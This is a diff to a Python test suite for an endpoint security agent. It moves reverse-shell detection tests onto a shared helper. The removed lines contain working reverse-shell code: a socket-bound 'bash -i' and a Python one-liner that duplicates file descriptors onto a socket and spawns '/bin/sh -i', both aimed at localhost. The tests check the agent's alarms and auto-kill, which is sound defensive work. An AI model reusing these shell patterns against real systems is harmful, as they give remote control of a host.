@@ -7,7 +7,6 @@ from __future__ import annotations
 
 import os
 import shutil
-import socket
 import stat
 import subprocess
 import sys
@@ -24,6 +23,7 @@ from hostward.agent.runtime import Agent
 from hostward.core.clock import SystemClock
 from hostward.wire import PolicyBundle, PolicyState
 from tests.agenthost import enrolled_config, quiet_probe
+from tests.attacks import reverse_shell
 from tests.conftest import need
 from tests.fakes.agent_manager import FakeManager
 
@@ -85,107 +85,45 @@ def start(agent: Agent, fm: FakeManager, bundle: PolicyBundle) -> None:
 
 def test_reverse_shell_detected_within_a_second_and_killed(agent: Agent, fm: FakeManager) -> None:
     start(agent, fm, policy(reverse_shell={"auto_kill": True}))
-    listener = socket.socket()
-    listener.bind(("127.0.0.1", 0))
-    listener.listen(1)
-    port = listener.getsockname()[1]
-    client = socket.create_connection(("127.0.0.1", port))
-    attacker, _ = listener.accept()
-    t0 = time.time()
-    shell = subprocess.Popen(
-        ["bash", "-i"],
-        stdin=client.fileno(),
-        stdout=client.fileno(),
-        stderr=client.fileno(),
-        start_new_session=True,
-    )
-    client.close()
-    try:
-        alarm = wait_alarm(agent, fm, "malware_0002", {"pid": shell.pid})
+    with reverse_shell(timeout=WAIT_S) as rs:
+        alarm = wait_alarm(agent, fm, "malware_0002", {"pid": rs.shell.pid})
         assert alarm is not None, agent.malware.procs.collector and agent.malware.procs.collector.stats
-        latency = datetime.fromisoformat(alarm["occurred_at"]).timestamp() - t0
+        latency = datetime.fromisoformat(alarm["occurred_at"]).timestamp() - rs.started
         assert latency < 1.0, f"alarm {latency:.3f} s after the exec"
         ev = alarm["evidence"]
-        assert ev["remote_address"] == f"127.0.0.1:{port}" and ev["auto_kill"] is True
-        assert shell.pid in ev["killed_pids"] and "kill_error" not in ev
-        shell.wait(WAIT_S)
-        attacker.settimeout(WAIT_S)
-        while attacker.recv(4096):  # the attacker's end sees the shell go away
-            pass
+        assert ev["remote_address"] == f"127.0.0.1:{rs.port}" and ev["auto_kill"] is True
+        assert rs.shell.pid in ev["killed_pids"] and "kill_error" not in ev
+        rs.shell.wait(WAIT_S)
+        rs.wait_hung_up(WAIT_S)
         names = {d.name: d for d in agent.health().detectors}
         assert names["process_events"].status == "running"
         assert "exited_before_enrichment" in names["process_events"].counters
         assert (
             names["reverse_shell"].counters["alarms"] >= 1 and names["process_threats"].counters["kills"] >= 1
         )
-    finally:
-        if shell.poll() is None:
-            shell.kill()
-            shell.wait(WAIT_S)
-        attacker.close()
-        listener.close()
-
-
-PY_SHELL = (
-    "import os,socket,subprocess,sys; s=socket.create_connection(('127.0.0.1', int(sys.argv[1])));"
-    " [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; subprocess.call(['/bin/sh', '-i'])"
-)
 
 
 def test_python_socket_shell_detected_within_a_second_and_killed(agent: Agent, fm: FakeManager) -> None:
     start(agent, fm, policy(reverse_shell={"auto_kill": True}))
-    listener = socket.socket()
-    listener.bind(("127.0.0.1", 0))
-    listener.listen(1)
-    port = listener.getsockname()[1]
-    t0 = time.time()
-    shell = subprocess.Popen([sys.executable, "-c", PY_SHELL, str(port)], start_new_session=True)
-    attacker, _ = listener.accept()
-    try:
-        alarm = wait_alarm(agent, fm, "malware_0002", {"remote_address": f"127.0.0.1:{port}"})
+    with reverse_shell(python=True, timeout=WAIT_S) as rs:
+        alarm = wait_alarm(agent, fm, "malware_0002", {"remote_address": f"127.0.0.1:{rs.port}"})
         assert alarm is not None
-        latency = datetime.fromisoformat(alarm["occurred_at"]).timestamp() - t0
+        latency = datetime.fromisoformat(alarm["occurred_at"]).timestamp() - rs.started
         assert latency < 1.0, f"alarm {latency:.3f} s after the start"
         ev = alarm["evidence"]
-        assert shell.pid in (ev["pid"], ev["ppid"])  # the interpreter or the shell it started
+        assert rs.shell.pid in (ev["pid"], ev["ppid"])  # the interpreter or the shell it started
         assert ev["pid"] in ev["killed_pids"] and "kill_error" not in ev
-        attacker.settimeout(WAIT_S)
-        while attacker.recv(4096):  # the attacker's end sees the shell go away
-            pass
-    finally:
-        if shell.poll() is None:
-            shell.kill()
-        shell.wait(WAIT_S)
-        attacker.close()
-        listener.close()
+        rs.wait_hung_up(WAIT_S)
 
 
 def test_reverse_shell_left_running_without_auto_kill(agent: Agent, fm: FakeManager) -> None:
     start(agent, fm, policy(reverse_shell={}))  # auto_kill defaults to off
-    listener = socket.socket()
-    listener.bind(("127.0.0.1", 0))
-    listener.listen(1)
-    client = socket.create_connection(listener.getsockname())
-    attacker, _ = listener.accept()
-    shell = subprocess.Popen(
-        ["bash", "-i"],
-        stdin=client.fileno(),
-        stdout=client.fileno(),
-        stderr=client.fileno(),
-        start_new_session=True,
-    )
-    client.close()
-    try:
-        alarm = wait_alarm(agent, fm, "malware_0002", {"pid": shell.pid})
+    with reverse_shell(timeout=WAIT_S) as rs:
+        alarm = wait_alarm(agent, fm, "malware_0002", {"pid": rs.shell.pid})
         assert alarm is not None and alarm["evidence"]["auto_kill"] is False
         assert "killed_pids" not in alarm["evidence"]
         time.sleep(0.5)
-        assert shell.poll() is None  # still running: the operator decides
-    finally:
-        shell.kill()
-        shell.wait(WAIT_S)
-        attacker.close()
-        listener.close()
+        assert rs.shell.poll() is None  # still running: the operator decides
 
 
 def test_high_risk_command_and_whitelisted_one(agent: Agent, fm: FakeManager) -> None:
